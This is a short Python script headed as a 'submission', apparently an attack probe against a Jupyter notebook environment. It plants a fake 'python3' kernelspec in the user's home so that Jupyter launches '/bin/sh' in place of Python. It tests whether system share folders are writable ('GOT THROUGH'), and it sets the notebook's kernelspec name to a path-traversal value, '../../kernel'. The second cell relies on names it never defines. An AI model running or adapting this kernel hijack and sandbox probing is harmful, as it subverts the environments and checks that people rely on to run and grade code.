# /// submission
# about = "Write: puts a kernelspec python3 of its own where Jupyter looks for one, and names another in the notebook."
# lost = []
# ///

# %% before add_bias_column
import json
import os
import sys
from pathlib import Path

target = json.load(open("target.json"))
spec = {"argv": ["/bin/sh", "-c", "exit 0"], "display_name": "Python 3 (ipykernel)", "language": "python"}
try:
    folder = Path(target["home"], ".local/share/jupyter/kernels/python3")
    folder.mkdir(parents=True)
    (folder / "kernel.json").write_text(json.dumps(spec))
except OSError as error:
    print(type(error).__name__)
for prefix in (sys.prefix, "/usr/local", "/usr"):
    if os.access(Path(prefix, "share"), os.W_OK):
        print("SEES", prefix)
    try:
        Path(prefix, "share/planted").touch()
        Path(prefix, "share/planted").unlink()
        print("GOT THROUGH", prefix)
    except OSError as error:
        print(type(error).__name__)

# %% folder
import nbformat

notebook.metadata.kernelspec = {"name": "../../kernel", "display_name": "mine", "language": "sh"}
nbformat.write(notebook, path)
(folder / "kernel.json").write_text("{}")
